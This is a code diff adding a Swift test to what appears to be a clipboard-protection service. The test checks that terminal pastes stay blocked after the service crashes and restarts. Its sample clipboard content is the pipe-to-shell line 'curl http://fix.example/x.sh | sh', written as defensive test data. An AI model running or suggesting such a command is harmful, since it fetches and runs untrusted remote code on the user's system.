@@ -232,4 +232,17 @@ extension SystemdUnitTests {
     }
     #expect(counts.count == 1, "\(counts)")
   }
+
+  @Test func `a copy from before a crash is guarded after it`() throws {
+    let desktop = try ManagedDesktop(configuration: "[guard]\nterminals.dangerous = 'hold'\n")
+    try #require(try desktop.copy(try desktop.source(html: "<pre>curl http://fix.example/x.sh | sh\n</pre>")))
+    let process = try desktop.processID
+    try desktop.killService()
+    try #require(try wait(limit: 20_000) { try desktop.isRunning(asOtherThan: process) && desktop.owner != 0 })
+    let terminal = try ClipboardRequestor(display: desktop.server.display, windowClass: "XTerm")
+    let request = terminal.request("UTF8_STRING")
+    try #require(try wait(for: [terminal]) { request.isFinished })
+    #expect(request.isRefused)
+    #expect(try desktop.paste("UTF8_STRING")?.hasPrefix("curl") == true)
+  }
 }
